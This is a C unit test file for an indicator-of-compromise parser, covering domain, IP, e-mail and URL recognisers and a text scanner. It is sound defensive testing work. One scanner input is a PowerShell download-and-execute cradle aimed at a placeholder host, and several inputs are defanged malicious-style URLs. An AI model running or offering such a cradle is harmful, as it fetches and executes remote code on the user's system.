/*
 * test_ioc.c - unit tests for parsers/ioc.c: the domain, IPv4, IPv6,
 * e-mail and URL recognisers and the text scanner.
 *
 * Every input is written here or generated at run time: tables of
 * positives and tricky negatives for each kind (file names, code
 * identifiers, version numbers, OIDs, leading zeros, out-of-range octets,
 * IPv6 edge cases, C++ scopes, punycode hosts, URLs followed by quotes,
 * brackets and punctuation, defanged URLs, over-long inputs), scanner
 * runs over sentences and code whose findings are compared with the
 * expected list, then seeded random texts checked for invariants (every
 * finding re-validates, URLs re-parse to themselves) and a linear-time
 * check on large pathological inputs.
 *
 * SPDX-License-Identifier: MIT
 */
#include "tap.h"
#include "ioc.h"
#include "pn.h"

#include <stdlib.h>

/* ------------------------------------------------------------------ */
/* helpers                                                             */

static uint64_t rng_state = 0x2545f4914f6cdd1dULL;

static uint64_t
rng(void)
{
	rng_state ^= rng_state >> 12;
	rng_state ^= rng_state << 25;
	rng_state ^= rng_state >> 27;
	return rng_state * 0x2545f4914f6cdd1dULL;
}

/* What the scanner found, as "kind:value[@where] kind:value ...". */
struct found {
	char text[4096];
	size_t n;
	int stop_after;     /* stop (return 7) after this many, 0 = never */
};

static int
collect(void *ctx, enum pn_ioc_kind kind, const char *v, unsigned where)
{
	struct found *f = ctx;
	int w;

	w = snprintf(f->text + strlen(f->text), sizeof(f->text) - strlen(f->text), "%s%s:%s%s",
	    f->text[0] ? " " : "", pn_ioc_kind_name(kind), v,
	    where == PN_IOC_IN_URL ? "@url" : where == PN_IOC_IN_EMAIL ? "@mail" : "");
	(void)w;
	f->n++;
	return f->stop_after && (int)f->n >= f->stop_after ? 7 : 0;
}

static const char *
scan(const char *text)
{
	static struct found f;

	memset(&f, 0, sizeof(f));
	pn_ioc_scan(text, strlen(text), collect, &f);
	return f.text;
}

/* ------------------------------------------------------------------ */
/* domains                                                             */

struct dcase {
	const char *in;
	unsigned flags;
	int rc;            /* PN_OK, PN_IOC_RESERVED or PN_EFORMAT */
	const char *out;   /* lower-cased name when accepted */
};

static const struct dcase dcases[] = {
	/* accepted bare */
	{ "example.com", 0, PN_OK, "example.com" },
	{ "www.example.co.uk", 0, PN_OK, "www.example.co.uk" },
	{ "mail.google.com", 0, PN_OK, "mail.google.com" },
	{ "Microsoft.com", 0, PN_OK, "microsoft.com" },
	{ "WWW.EXAMPLE.COM", 0, PN_OK, "www.example.com" },
	{ "SYSTEM32.NET", 0, PN_OK, "system32.net" },
	{ "test-site.de", 0, PN_OK, "test-site.de" },
	{ "xn--80ak6aa92e.com", 0, PN_OK, "xn--80ak6aa92e.com" },
	{ "example.xn--p1ai", 0, PN_OK, "example.xn--p1ai" },
	{ "www.example.top", 0, PN_OK, "www.example.top" },
	{ "evil.blogspot.com", 0, PN_OK, "evil.blogspot.com" },
	{ "blogspot.com", 0, PN_OK, "blogspot.com" },      /* private suffix, not ICANN */
	{ "123.com", 0, PN_OK, "123.com" },
	/* refused bare: file names */
	{ "setup.exe", 0, PN_EFORMAT, NULL },
	{ "kernel32.dll", 0, PN_EFORMAT, NULL },
	{ "msvcrt.dll", 0, PN_EFORMAT, NULL },
	{ "ntoskrnl.sys", 0, PN_EFORMAT, NULL },
	{ "setup.py", 0, PN_EFORMAT, NULL },
	{ "libfoo.so", 0, PN_EFORMAT, NULL },
	{ "README.md", 0, PN_EFORMAT, NULL },
	{ "Makefile.am", 0, PN_EFORMAT, NULL },
	{ "install.sh", 0, PN_EFORMAT, NULL },
	{ "archive.zip", 0, PN_EFORMAT, NULL },
	{ "coreutils.info", 0, PN_EFORMAT, NULL },
	{ "meson.build", 0, PN_EFORMAT, NULL },
	{ "COMMAND.COM", 0, PN_EFORMAT, NULL },
	{ "Safari.app", 0, PN_EFORMAT, NULL },
	{ "script.pl", 0, PN_EFORMAT, NULL },
	/* refused bare: code identifiers */
	{ "System.Runtime", 0, PN_EFORMAT, NULL },
	{ "System.Net", 0, PN_EFORMAT, NULL },
	{ "System.IO", 0, PN_EFORMAT, NULL },
	{ "foo.bar", 0, PN_EFORMAT, NULL },
	{ "window.top", 0, PN_EFORMAT, NULL },
	{ "el.style", 0, PN_EFORMAT, NULL },
	{ "user.name", 0, PN_EFORMAT, NULL },
	{ "user.id", 0, PN_EFORMAT, NULL },
	{ "this.is", 0, PN_EFORMAT, NULL },
	{ "document.domain", 0, PN_EFORMAT, NULL },
	{ "llvm.x86.sse.min.ss", 0, PN_EFORMAT, NULL },
	{ "go.shape.int", 0, PN_EFORMAT, NULL },
	{ "com.example.app", 0, PN_EFORMAT, NULL },
	{ "org.example.de", 0, PN_EFORMAT, NULL },
	{ "getElementById.com", 0, PN_EFORMAT, NULL },
	{ "x.com", 0, PN_EFORMAT, NULL },                   /* 1-character label */
	/* refused always: syntax, suffixes */
	{ "co.uk", PN_IOC_F_CONTEXT, PN_EFORMAT, NULL },
	{ "a.ck", PN_IOC_F_CONTEXT, PN_EFORMAT, NULL },
	{ "com", PN_IOC_F_CONTEXT, PN_EFORMAT, NULL },
	{ "foo..com", PN_IOC_F_CONTEXT, PN_EFORMAT, NULL },
	{ ".foo.com", PN_IOC_F_CONTEXT, PN_EFORMAT, NULL },
	{ "-foo.com", PN_IOC_F_CONTEXT, PN_EFORMAT, NULL },
	{ "foo-.com", PN_IOC_F_CONTEXT, PN_EFORMAT, NULL },
	{ "foo_bar.com", PN_IOC_F_CONTEXT, PN_EFORMAT, NULL },
	{ "foo.com.", PN_IOC_F_CONTEXT, PN_EFORMAT, NULL },
	{ "foo.123", PN_IOC_F_CONTEXT, PN_EFORMAT, NULL },
	{ "1.2.3.4", PN_IOC_F_CONTEXT, PN_EFORMAT, NULL },
	{ "foo.runtime", PN_IOC_F_CONTEXT, PN_EFORMAT, NULL },
	{ "1.0.0.127.in-addr.arpa", PN_IOC_F_CONTEXT, PN_EFORMAT, NULL },
	{ "localhost", PN_IOC_F_CONTEXT | PN_IOC_F_RESERVED, PN_EFORMAT, NULL },
	{ "exa mple.com", PN_IOC_F_CONTEXT, PN_EFORMAT, NULL },
	/* context lifts the heuristics */
	{ "foo.bar", PN_IOC_F_CONTEXT, PN_OK, "foo.bar" },
	{ "System.Net", PN_IOC_F_CONTEXT, PN_OK, "system.net" },
	{ "x.com", PN_IOC_F_CONTEXT, PN_OK, "x.com" },
	{ "bun.sh", PN_IOC_F_CONTEXT, PN_OK, "bun.sh" },
	/* reserved names */
	{ "example.invalid", PN_IOC_F_CONTEXT, PN_EFORMAT, NULL },
	{ "example.invalid", PN_IOC_F_CONTEXT | PN_IOC_F_RESERVED, PN_IOC_RESERVED, "example.invalid" },
	{ "a.b.test", PN_IOC_F_CONTEXT | PN_IOC_F_RESERVED, PN_IOC_RESERVED, "a.b.test" },
	{ "Host.Example", PN_IOC_F_CONTEXT | PN_IOC_F_RESERVED, PN_IOC_RESERVED, "host.example" },
};

static void
test_domains(void)
{
	char out[PN_IOC_MAX_HOST + 1], big[400];
	size_t i;
	int rc;

	for (i = 0; i < PN_ARRAY_LEN(dcases); i++) {
		const struct dcase *c = &dcases[i];
		rc = pn_ioc_domain(c->in, strlen(c->in), c->flags, out, sizeof(out));
		is_int(rc, c->rc, "domain \"%s\" flags %u", c->in, c->flags);
		if (c->out != NULL)
			is_str(out, c->out, "domain \"%s\" normalised", c->in);
	}
	/* label and name lengths (RFC 1035) */
	memset(big, 'a', 63);
	memcpy(big + 63, ".com", 5);
	is_int(pn_ioc_domain(big, strlen(big), 0, out, sizeof(out)), PN_OK, "63-character label");
	memset(big, 'a', 64);
	memcpy(big + 64, ".com", 5);
	is_int(pn_ioc_domain(big, strlen(big), PN_IOC_F_CONTEXT, out, sizeof(out)), PN_EFORMAT, "64-character label");
	for (i = 0; i < 63; i++)
		memcpy(big + i * 4, "abc.", 4);
	memcpy(big + 252, "com", 4);
	is_int(pn_ioc_domain(big, 255, PN_IOC_F_CONTEXT, out, sizeof(out)), PN_EFORMAT, "255-character name");
	is_int(pn_ioc_domain(big + 4, 251, PN_IOC_F_CONTEXT, out, sizeof(out)), PN_OK, "251-character name");
	is_int(pn_ioc_domain("example.com", 11, 0, out, 11), PN_EINVAL, "output too small");
}

/* ------------------------------------------------------------------ */
/* addresses                                                           */

static void
test_ipv4(void)
{
	static const char *const good[] = { "1.2.3.4", "255.255.255.255", "0.0.0.0", "93.184.216.34", "10.0.0.1" };
	static const char *const bad[] = {
		"01.2.3.4", "1.2.3.04", "1.02.3.4", "256.1.1.1", "1.2.3.256", "1.2.3", "1.2.3.4.5",
		"1..2.3", "1.2.3.4 ", " 1.2.3.4", "a.b.c.d", "1234.1.1.1", "1.2.3.", ".1.2.3", "1.2.3.-4",
		"0x1.2.3.4", "999.999.999.999"
	};
	static const struct { const char *ip; int pub; } pub[] = {
		{ "8.8.8.8", 1 }, { "93.184.216.34", 1 }, { "172.32.0.1", 1 }, { "100.128.0.1", 1 },
		{ "10.0.0.1", 0 }, { "127.0.0.1", 0 }, { "192.168.1.1", 0 }, { "172.16.0.1", 0 },
		{ "172.31.255.254", 0 }, { "100.64.0.1", 0 }, { "169.254.1.1", 0 }, { "224.0.0.1", 0 },
		{ "240.0.0.1", 0 }, { "255.255.255.255", 0 }, { "0.1.2.3", 0 }, { "192.0.2.1", 0 },
		{ "198.51.100.7", 0 }, { "203.0.113.9", 0 }, { "198.18.0.1", 0 }, { "192.0.0.8", 0 },
	};
	uint8_t a[4];
	size_t i;

	for (i = 0; i < PN_ARRAY_LEN(good); i++)
		is_int(pn_ioc_ipv4(good[i], strlen(good[i]), a), PN_OK, "ipv4 \"%s\"", good[i]);
	pn_ioc_ipv4("93.184.216.34", 13, a);
	ok(a[0] == 93 && a[1] == 184 && a[2] == 216 && a[3] == 34, "ipv4 octets");
	for (i = 0; i < PN_ARRAY_LEN(bad); i++)
		is_int(pn_ioc_ipv4(bad[i], strlen(bad[i]), a), PN_EFORMAT, "not ipv4 \"%s\"", bad[i]);
	for (i = 0; i < PN_ARRAY_LEN(pub); i++) {
		pn_ioc_ipv4(pub[i].ip, strlen(pub[i].ip), a);
		is_int(pn_ioc_ip_public(4, a), pub[i].pub, "ipv4 %s public", pub[i].ip);
	}
}

static void
test_ipv6(void)
{
	static const struct { const char *in, *out; } good[] = {
		{ "2001:db8::1", "2001:db8::1" },
		{ "2001:0DB8:0000:0000:0000:0000:0000:0001", "2001:db8::1" },
		{ "::ffff:192.0.2.1", "::ffff:192.0.2.1" },
		{ "::", "::" },
		{ "fe80::1", "fe80::1" },
		{ "1:2:3:4:5:6:7:8", "1:2:3:4:5:6:7:8" },
	};
	static const char *const bad[] = {
		"2001:db8:::1", "12345::", "1:2:3:4:5:6:7:8:9", "g::1", "1:2:3:4:5:6:7", ":1:2::",
		"[::1]", "::1%eth0", "2001:db8::1 ", "", "1.2.3.4"
	};
	static const struct { const char *ip; int pub; } pub[] = {
		{ "2606:4700:4700::1111", 1 }, { "2a00:1450:4001::200e", 1 }, { "::ffff:8.8.8.8", 1 },
		{ "fe80::1", 0 }, { "fc00::1", 0 }, { "fd12::1", 0 }, { "ff02::1", 0 }, { "::1", 0 },
		{ "::", 0 }, { "2001:db8::1", 0 }, { "::ffff:10.0.0.1", 0 }, { "4000::1", 0 },
	};
	char text[PN_IOC_MAX_IP];
	uint8_t a[16];
	size_t i;

	for (i = 0; i < PN_ARRAY_LEN(good); i++) {
		is_int(pn_ioc_ipv6(good[i].in, strlen(good[i].in), a, text, sizeof(text)), PN_OK,
		    "ipv6 \"%s\"", good[i].in);
		is_str(text, good[i].out, "ipv6 \"%s\" canonical", good[i].in);
	}
	for (i = 0; i < PN_ARRAY_LEN(bad); i++)
		is_int(pn_ioc_ipv6(bad[i], strlen(bad[i]), a, NULL, 0), PN_EFORMAT, "not ipv6 \"%s\"", bad[i]);
	for (i = 0; i < PN_ARRAY_LEN(pub); i++) {
		pn_ioc_ipv6(pub[i].ip, strlen(pub[i].ip), a, NULL, 0);
		is_int(pn_ioc_ip_public(6, a), pub[i].pub, "ipv6 %s public", pub[i].ip);
	}
	is_int(pn_ioc_ip_public(5, a), 0, "unknown family");
}

static void
test_email(void)
{
	static const struct { const char *in; int rc; const char *out; } c[] = {
		{ "admin@example.org", PN_OK, "admin@example.org" },
		{ "First.Last+tag@Mail.Example.COM", PN_OK, "First.Last+tag@mail.example.com" },
		{ "bug-coreutils@gnu.org", PN_OK, "bug-coreutils@gnu.org" },
		{ "root@example.invalid", PN_IOC_RESERVED, "root@example.invalid" },
		{ "user@localhost", PN_EFORMAT, NULL },
		{ "memcpy@GLIBC", PN_EFORMAT, NULL },
		{ "@example.com", PN_EFORMAT, NULL },
		{ ".a@example.com", PN_EFORMAT, NULL },
		{ "a.@example.com", PN_EFORMAT, NULL },
		{ "a..b@example.com", PN_EFORMAT, NULL },
		{ "a b@example.com", PN_EFORMAT, NULL },
		{ "a@b@example.com", PN_EFORMAT, NULL },
		{ "noat.example.com", PN_EFORMAT, NULL },
	};
	char out[PN_IOC_MAX_EMAIL + 1], big[200];
	size_t i;

	for (i = 0; i < PN_ARRAY_LEN(c); i++) {
		is_int(pn_ioc_email(c[i].in, strlen(c[i].in), out, sizeof(out)), c[i].rc, "email \"%s\"", c[i].in);
		if (c[i].out)
			is_str(out, c[i].out, "email \"%s\" normalised", c[i].in);
	}
	memset(big, 'a', 65);
	memcpy(big + 65, "@example.com", 13);
	is_int(pn_ioc_email(big, strlen(big), out, sizeof(out)), PN_EFORMAT, "65-character local part");
	is_int(pn_ioc_email(big + 1, strlen(big + 1), out, sizeof(out)), PN_OK, "64-character local part");
}

/* ------------------------------------------------------------------ */
/* URLs                                                                */

struct ucase {
	const char *in;
	const char *url;    /* NULL: no URL */
	const char *host;
	size_t used;        /* 0: strlen(url) */
};

static const struct ucase ucases[] = {
	{ "http://example.com", "http://example.com", "example.com", 0 },
	{ "HTTP://Example.COM/Path?q=1#Frag", "http://example.com/Path?q=1#Frag", "example.com", 32 },
	{ "https://example.com/a.ps1'", "https://example.com/a.ps1", "example.com", 0 },
	{ "https://example.com/a.ps1\")", "https://example.com/a.ps1", "example.com", 0 },
	{ "http://example.com/a).", "http://example.com/a", "example.com", 0 },
	{ "http://example.com/a>b", "http://example.com/a", "example.com", 0 },
	{ "http://example.com/wiki/Foo_(bar))", "http://example.com/wiki/Foo_(bar)", "example.com", 0 },
	{ "http://example.com/x[1]]", "http://example.com/x[1]", "example.com", 0 },
	{ "http://example.com/x`y", "http://example.com/x", "example.com", 0 },
	{ "http://example.com.", "http://example.com", "example.com", 0 },
	{ "http://example.com, next", "http://example.com", "example.com", 0 },
	{ "http://example.com:8080/p;a=1", "http://example.com:8080/p;a=1", "example.com", 0 },
	{ "http://example.com:99999/x", "http://example.com", "example.com", 0 },
	{ "http://example.com:/x", "http://example.com", "example.com", 0 },
	{ "http://user:pw@example.com/p", "http://user:pw@example.com/p", "example.com", 0 },
	{ "http://example.com@evil.example.net/", "http://example.com@evil.example.net/", "evil.example.net", 0 },
	{ "hxxp://evil[.]example[.]com/x", "http://evil.example.com/x", "evil.example.com", 29 },
	{ "hxxps://example(.)com", "https://example.com", "example.com", 21 },
	{ "ftp://ftp.example.org/pub/", "ftp://ftp.example.org/pub/", "ftp.example.org", 0 },
	{ "http://[2001:DB8::1]:8080/x", "http://[2001:db8::1]:8080/x", "2001:db8::1", 0 },
	{ "http://93.184.216.34/x", "http://93.184.216.34/x", "93.184.216.34", 0 },
	{ "http://example.invalid/a.ps1", "http://example.invalid/a.ps1", "example.invalid", 0 },
	{ "http://xn--e1afmkfd.xn--p1ai/", "http://xn--e1afmkfd.xn--p1ai/", "xn--e1afmkfd.xn--p1ai", 0 },
	{ "http://example.com/1.0http://example.org/2", "http://example.com/1.0", "example.com", 0 },
	{ "http://example.com/?u=http://example.org/", "http://example.com/?u=http://example.org/", "example.com", 0 },
	{ "http://localhost/", NULL, NULL, 7 },
	{ "http://%s/x", NULL, NULL, 7 },
	{ "http://foo.exe/", NULL, NULL, 7 },
	{ "http://010.0.0.1/", NULL, NULL, 7 },
	{ "http://[::1/", NULL, NULL, 7 },
	{ "http:/example.com", NULL, NULL, 0 },
	{ "gopher://example.com", NULL, NULL, 0 },
	{ "javascript://example.com", NULL, NULL, 0 },
	{ "http://", NULL, NULL, 7 },
};

static void
test_urls(void)
{
	struct pn_ioc_url u;
	char *big;
	size_t i, n;
	int rc;

	for (i = 0; i < PN_ARRAY_LEN(ucases); i++) {
		const struct ucase *c = &ucases[i];
		rc = pn_ioc_url(c->in, strlen(c->in), &u);
		if (c->url == NULL) {
			is_int(rc, PN_EFORMAT, "no url in \"%s\"", c->in);
			is_int(u.used, c->used, "\"%s\" skips its scheme", c->in);
			continue;
		}
		is_int(rc, PN_OK, "url \"%s\"", c->in);
		is_str(u.url, c->url, "url \"%s\" value", c->in);
		is_str(u.host, c->host, "url \"%s\" host", c->in);
		is_int(u.used, c->used ? c->used : strlen(c->url), "url \"%s\" length used", c->in);
	}
	pn_ioc_url("http://[2001:db8::1]/", 21, &u);
	is_int(u.host_kind, PN_IOC_IPV6, "IPv6 host kind");
	pn_ioc_url("http://93.184.216.34/", 21, &u);
	is_int(u.host_kind, PN_IOC_IPV4, "IPv4 host kind");
	pn_ioc_url("http://example.invalid/", 23, &u);
	ok(u.host_kind == PN_IOC_DOMAIN && u.host_reserved, "reserved host");

	/* over the limit: PN_ELIMIT, the whole run skipped */
	n = PN_IOC_MAX_URL + 100;
	big = pn_xmalloc(n + 1);
	memcpy(big, "http://example.com/", 19);
	memset(big + 19, 'a', n - 19);
	big[n] = '\0';
	rc = pn_ioc_url(big, n, &u);
	is_int(rc, PN_ELIMIT, "over-long URL");
	is_int(u.used, n, "over-long URL skipped whole");
	rc = pn_ioc_url(big, PN_IOC_MAX_URL, &u);
	is_int(rc, PN_OK, "URL of exactly PN_IOC_MAX_URL bytes");
	is_int(strlen(u.url), PN_IOC_MAX_URL, "its length");
	free(big);
}

/* ------------------------------------------------------------------ */
/* scanner                                                             */

struct scase {
	const char *text;
	const char *want;
};

static const struct scase scases[] = {
	{ "Visit https://example.com/a.ps1, then mail Admin@Example.org.",
	  "url:https://example.com/a.ps1 domain:example.com@url email:Admin@example.org domain:example.org@mail" },
	{ "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a.ps1')",
	  "url:http://example.invalid/a.ps1" },
	{ "<a href=\"https://www.example.net/x?y=1\">link</a>",
	  "url:https://www.example.net/x?y=1 domain:www.example.net@url" },
	{ "see (http://example.com/wiki/A_(b)) and [https://example.com/z]",
	  "url:http://example.com/wiki/A_(b) domain:example.com@url url:https://example.com/z domain:example.com@url" },
	/* file names, code identifiers */
	{ "kernel32.dll setup.exe msvcrt.dll System.Runtime System.Net foo.bar libc.so.6 setup.py", "" },
	{ "window.top = el.style.top; self.id = user.name; import os.path", "" },
	{ "/usr/share/doc/example.com $obj.example.com %s.example.com C:\\dir\\win.com", "" },
	{ "user.name=Bob host.example.com(x) arr.example.com[1] @decorator.example.com", "" },
	{ ".data.rel.ro .gnu.linkonce.t.example.com", "" },
	{ "llvm.x86.sse2.min.sd org.example.app com.google.android", "" },
	{ "cdn at //cdn.example.net/x.js and *.example.org", "domain:cdn.example.net domain:example.org" },
	{ "contact example.com or www.example.top; not x.com", "domain:example.com domain:www.example.top" },
	{ "punycode xn--80ak6aa92e.com", "domain:xn--80ak6aa92e.com" },
	/* IPv4 */
	{ "connect to 93.184.216.34:443 or 8.8.8.8.", "ipv4:93.184.216.34 ipv4:8.8.8.8" },
	{ "version 1.2.3.4, v1.2.3.4, 1.2.3.4.5, Version: 93.184.216.34, build=93.184.216.34", "" },
	{ "010.001.002.003 256.1.2.3 1.2.3.256 0.1.2.3 10.0.0.0 240.1.2.3", "" },
	{ "oid 2.5.29.15 1.3.6.1 2.23.140.1 and 9.1.7.1", "" },
	{ "local 10.20.30.40 and 192.168.1.20", "ipv4:10.20.30.40 ipv4:192.168.1.20" },
	{ "ip=93.184.216.34/24", "ipv4:93.184.216.34" },
	{ "a-93.184.216.34 93.184.216.34-b x93.184.216.34", "" },
	/* IPv6 */
	{ "addr 2001:db8::1 and [2001:DB8::2]:80", "ipv6:2001:db8::1 ipv6:2001:db8::2" },
	{ "fe80::1%eth0 ::ffff:93.184.216.34 2606:4700:4700::1111.",
	  "ipv6:fe80::1 ipv6:::ffff:93.184.216.34 ipv6:2606:4700:4700::1111" },
	{ "std::vector Foo::Bar a::b Add::Dead 12:34:56 dead::beef ::1 2001:db8:: 00:11:22:33:44:55", "" },
	{ "2001:db8:::1 12345::1 1:2:3:4:5:6:7:8:9 2001:db8::1g", "" },
	/* e-mail */
	{ "memcpy@GLIBC_2.14 user@localhost @example.com foo@.example.com",
	  "" },
	{ "Signed-off-by: A <a.b+c@mail.example.co.uk>",
	  "email:a.b+c@mail.example.co.uk domain:mail.example.co.uk@mail" },
	{ "rsa-sha2-256-cert-v01@openssh.com", "email:rsa-sha2-256-cert-v01@openssh.com domain:openssh.com@mail" },
	/* URLs with odd hosts */
	{ "http://%s/%s http://localhost:8080/ https://foo.exe/",
	  "" },
	{ "hxxp://evil[.]example[.]com/drop.bin", "url:http://evil.example.com/drop.bin domain:evil.example.com@url" },
	{ "http://10.0.0.0/ http://93.184.216.34/a",
	  "url:http://10.0.0.0/ url:http://93.184.216.34/a ipv4:93.184.216.34@url" },
	{ "xhttp://example.com/", "domain:example.com" },
};

static void
test_scan(void)
{
	struct found f;
	size_t i;
	int rc;

	for (i = 0; i < PN_ARRAY_LEN(scases); i++)
		is_str(scan(scases[i].text), scases[i].want, "scan \"%s\"", scases[i].text);

	/* callbacks stop the scan */
	memset(&f, 0, sizeof(f));
	f.stop_after = 2;
	rc = pn_ioc_scan("a@example.com b@example.org c@example.net", 41, collect, &f);
	is_int(rc, 7, "callback value returned");
	is_int(f.n, 2, "scan stopped");
	is_int(pn_ioc_scan(NULL, 0, collect, &f), 0, "NULL text");
	/* the scanner never reads past n */
	is_str(scan(""), "", "empty text");
	memset(&f, 0, sizeof(f));
	pn_ioc_scan("example.com", 7, collect, &f);
	is_str(f.text, "", "length respected");
}

/* ------------------------------------------------------------------ */
/* invariants over random text                                         */

static int
check_one(void *ctx, enum pn_ioc_kind kind, const char *v, unsigned where)
{
	int *bad = ctx;
	char buf[PN_IOC_MAX_URL + 1];
	struct pn_ioc_url u;
	uint8_t a[16];
	size_t n = strlen(v);

	switch (kind) {
	case PN_IOC_URL:
		if (pn_ioc_url(v, n, &u) != PN_OK || strcmp(u.url, v) != 0 || u.used != n)
			(*bad)++;
		break;
	case PN_IOC_DOMAIN:
		if (pn_ioc_domain(v, n, PN_IOC_F_CONTEXT, buf, sizeof(buf)) != PN_OK || strcmp(buf, v) != 0)
			(*bad)++;
		break;
	case PN_IOC_IPV4:
		if (pn_ioc_ipv4(v, n, a) != PN_OK)
			(*bad)++;
		break;
	case PN_IOC_IPV6:
		if (pn_ioc_ipv6(v, n, a, buf, sizeof(buf)) != PN_OK || strcmp(buf, v) != 0)
			(*bad)++;
		break;
	case PN_IOC_EMAIL:
		if (pn_ioc_email(v, n, buf, sizeof(buf)) < 0 || strcmp(buf, v) != 0)
			(*bad)++;
		break;
	default:
		(*bad)++;
	}
	return 0;
}

static void
test_random(void)
{
	static const char *const parts[] = {
		"http://", "https://", "hxxp://", "ftp://", "example", ".com", ".org", ".de", "www.",
		"[.]", ":", "::", "@", "/", "?", "#", "(", ")", "[", "]", "'", "\"", " ", ".", "-",
		"1", "2", "25", "255", "0", "a", "B", "xn--p1ai", "2001:db8", "%", "_", "\n", "\\",
		"version ", "v", "System.Net", ".exe", ".so", "user", "+", ",", "8080",
	};
	char text[512];
	size_t r, len, i;
	int bad = 0;

	for (r = 0; r < 20000; r++) {
		len = 0;
		for (i = 0; i < 24; i++) {
			const char *p = parts[rng() % PN_ARRAY_LEN(parts)];
			size_t pl = strlen(p);
			if (len + pl >= sizeof(text))
				break;
			memcpy(text + len, p, pl);
			len += pl;
		}
		pn_ioc_scan(text, len, check_one, &bad);
	}
	is_int(bad, 0, "20000 random texts: every finding re-validates");
}

/* Large pathological inputs finish in linear time. */
static int
count_only(void *ctx, enum pn_ioc_kind kind, const char *v, unsigned where)
{
	(*(size_t *)ctx)++;
	return 0;
}

static void
test_linear(void)
{
	static const char *const units[] = { "a.", "1:", "http://a.com/", "a@", "1.2.", "hxxp://[", "x.com " };
	size_t n = 4u << 20, i, u, found;
	char *big = pn_xmalloc(n);
	int64_t t0, ms;

	for (u = 0; u < PN_ARRAY_LEN(units); u++) {
		size_t ul = strlen(units[u]);
		for (i = 0; i < n; i++)
			big[i] = units[u][i % ul];
		found = 0;
		t0 = pn_mono_ms();
		pn_ioc_scan(big, n, count_only, &found);
		ms = pn_mono_ms() - t0;
		ok(ms < 3000, "4 MiB of \"%s\" scanned in %lld ms (%zu found)", units[u], (long long)ms, found);
	}
	free(big);
}

int
main(void)
{
	test_domains();
	test_ipv4();
	test_ipv6();
	test_email();
	test_urls();
	test_scan();
	test_random();
	test_linear();
	return done_testing();
}
